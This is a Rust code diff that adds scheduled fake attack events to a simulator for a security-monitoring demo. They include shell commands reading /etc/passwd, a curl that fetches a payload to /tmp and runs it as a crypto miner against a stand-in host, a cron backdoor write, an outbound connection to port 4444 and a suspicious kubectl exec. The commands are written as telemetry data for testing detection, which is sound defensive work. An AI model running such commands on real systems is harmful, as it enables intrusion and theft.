@@ -8,6 +8,8 @@
 //! A small share of records is deliberately broken (cut short, not JSON) so the demo
 //! shows dead-lettering at work.
 
+use std::collections::VecDeque;
+
 use serde_json::json;
 
 use ingest::Nanos;
@@ -86,7 +88,22 @@ pub struct Simulator {
     step: i64,
     bad_per_thousand: u64,
     audit_seq: u64,
+    /// Records queued to go out before any new one (the steps of an attack).
+    queued: VecDeque<Record>,
+    /// When the next attack happens, and how far apart they are.
+    attacks: Option<(Nanos, i64)>,
+    next_attack: usize,
 }
+
+/// The attacks the demo injects once the services have learned, in order.
+pub const ATTACKS: [&str; 6] = [
+    "a shell in the API container",
+    "a package manager run in the worker",
+    "a binary dropped in /tmp and executed in checkout",
+    "a write below /etc in the frontend",
+    "a connection from the database to a new external address",
+    "a kubectl exec into the API by an unusual user",
+];
 
 fn pod_name(rng: &mut Rng, workload: &str, stateful: bool) -> String {
     const ALPHABET: &[u8] = b"bcdfghjklmnpqrstvwxz2456789";
@@ -240,11 +257,33 @@ impl Simulator {
             step: speed * 1_000_000_000 / rate,
             bad_per_thousand,
             audit_seq: 0,
+            queued: VecDeque::new(),
+            attacks: None,
+            next_attack: 0,
         }
     }
 
     /// The next record, advancing event time by one step (with jitter).
+    /// Injects [`ATTACKS`] one after another, the first at `first`, then every `every`.
+    pub fn schedule_attacks(&mut self, first: Nanos, every: std::time::Duration) {
+        self.attacks = Some((first, i64::try_from(every.as_nanos()).unwrap_or(i64::MAX)));
+    }
+
     pub fn next_record(&mut self) -> Record {
+        if let Some(r) = self.queued.pop_front() {
+            return r;
+        }
+        if let Some((at, every)) = self.attacks
+            && self.now >= at
+            && self.next_attack < ATTACKS.len()
+        {
+            self.attacks = Some((at.saturating_add(every), every));
+            self.attack(self.next_attack);
+            self.next_attack += 1;
+            if let Some(r) = self.queued.pop_front() {
+                return r;
+            }
+        }
         self.now = self
             .now
             .saturating_add(self.step / 2 + self.rng.below(self.step.max(1) as u64) as i64);
@@ -296,6 +335,162 @@ impl Simulator {
             "workload": s.name,
             "workload_kind": if s.name == "postgres" { "StatefulSet" } else { "Deployment" },
         })
+    }
+
+    fn service(&self, name: &str) -> &Service {
+        self.services
+            .iter()
+            .find(|s| s.name == name)
+            .expect("simulated service")
+    }
+
+    /// A Tetragon record for a process of service `name`.
+    fn tetragon(
+        &self,
+        name: &str,
+        binary: &str,
+        args: &str,
+        parent: &str,
+        detail: serde_json::Value,
+    ) -> Record {
+        let s = self.service(name);
+        let time = self.now.to_rfc3339();
+        let process = json!({
+            "exec_id": format!("{}:attack", s.node), "pid": 31337, "uid": 0, "cwd": "/",
+            "binary": binary, "arguments": args, "start_time": time, "pod": self.pod_json(s),
+        });
+        let parent = json!({ "binary": parent, "pid": 1 });
+        let mut body = match detail {
+            serde_json::Value::Null => {
+                json!({ "process_exec": { "process": process, "parent": parent } })
+            }
+            mut kprobe => {
+                kprobe["process"] = process;
+                kprobe["parent"] = parent;
+                json!({ "process_kprobe": kprobe })
+            }
+        };
+        body["node_name"] = json!(s.node);
+        body["time"] = json!(time);
+        Record {
+            topic: "tetragon",
+            key: name.to_owned(),
+            payload: body.to_string().into_bytes(),
+        }
+    }
+
+    fn falco(&self, name: &str, rule: &str, priority: &str, exe: &str, cmdline: &str) -> Record {
+        let s = self.service(name);
+        let body = json!({
+            "time": self.now.to_rfc3339(), "rule": rule, "priority": priority, "source": "syscall", "hostname": s.node,
+            "tags": ["container", "mitre_execution"], "output": format!("{rule} ({cmdline})"),
+            "output_fields": {
+                "evt.time": self.now.0, "proc.exepath": exe, "proc.cmdline": cmdline, "user.name": "root", "user.uid": 0,
+                "container.id": &s.container_id[..12], "container.name": s.name, "k8s.ns.name": NAMESPACE, "k8s.pod.name": s.pod,
+            },
+        });
+        Record {
+            topic: "falco",
+            key: name.to_owned(),
+            payload: body.to_string().into_bytes(),
+        }
+    }
+
+    fn attack(&mut self, which: usize) {
+        let write = |path: &str| {
+            json!({ "function_name": "security_file_permission",
+                "args": [ { "file_arg": { "path": path } }, { "int_arg": 2 } ], "action": "KPROBE_ACTION_POST" })
+        };
+        let records = match which {
+            0 => vec![
+                self.tetragon(
+                    "api",
+                    "/bin/sh",
+                    "-c id; cat /etc/passwd",
+                    "/usr/local/bin/python3.12",
+                    serde_json::Value::Null,
+                ),
+                self.falco(
+                    "api",
+                    "Terminal shell in container",
+                    "Notice",
+                    "/bin/sh",
+                    "sh -c id; cat /etc/passwd",
+                ),
+            ],
+            1 => vec![
+                self.tetragon(
+                    "worker",
+                    "/usr/bin/apt-get",
+                    "install -y nmap",
+                    "/bin/sh",
+                    serde_json::Value::Null,
+                ),
+                self.falco(
+                    "worker",
+                    "Launch Package Management Process in Container",
+                    "Error",
+                    "/usr/bin/apt-get",
+                    "apt-get install -y nmap",
+                ),
+            ],
+            2 => vec![
+                self.tetragon(
+                    "checkout",
+                    "/usr/bin/curl",
+                    "-so /tmp/.x/kworker http://203.0.113.50/k",
+                    "/bin/sh",
+                    write("/tmp/.x/kworker"),
+                ),
+                self.tetragon(
+                    "checkout",
+                    "/tmp/.x/kworker",
+                    "-o pool.example:3333",
+                    "/bin/sh",
+                    serde_json::Value::Null,
+                ),
+            ],
+            3 => vec![self.tetragon(
+                "frontend",
+                "/bin/busybox",
+                "tee /etc/cron.d/backdoor",
+                "/usr/sbin/nginx",
+                write("/etc/cron.d/backdoor"),
+            )],
+            4 => {
+                let connect = json!({ "function_name": "tcp_connect", "args": [ { "sock_arg": { "family": "AF_INET",
+                    "protocol": "IPPROTO_TCP", "saddr": "10.0.2.9", "daddr": "203.0.113.50", "sport": 51000, "dport": 4444 } } ] });
+                vec![self.tetragon(
+                    "postgres",
+                    "/usr/lib/postgresql/16/bin/postgres",
+                    "-D /var/lib/postgresql/data",
+                    "/usr/lib/postgresql/16/bin/postgres",
+                    connect,
+                )]
+            }
+            _ => {
+                let s = self.service("api");
+                let time = self
+                    .now
+                    .to_datetime()
+                    .format("%Y-%m-%dT%H:%M:%S%.6fZ")
+                    .to_string();
+                let body = json!({
+                    "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "6b1d0c5e-attack-4000-8000-000000000006",
+                    "stage": "ResponseStarted", "verb": "get",
+                    "requestURI": format!("/api/v1/namespaces/{NAMESPACE}/pods/{}/exec?command=sh&command=-i&container=api&stdin=true&tty=true", s.pod),
+                    "user": { "username": "mallory@example.com", "groups": ["system:authenticated"] }, "sourceIPs": ["198.51.100.23"],
+                    "objectRef": { "resource": "pods", "namespace": NAMESPACE, "name": s.pod, "subresource": "exec" },
+                    "responseStatus": { "code": 101 }, "requestReceivedTimestamp": time, "stageTimestamp": time,
+                });
+                vec![Record {
+                    topic: "k8s-audit",
+                    key: "api".to_owned(),
+                    payload: body.to_string().into_bytes(),
+                }]
+            }
+        };
+        self.queued.extend(records);
     }
 
     fn tetragon_event(&mut self) -> Record {
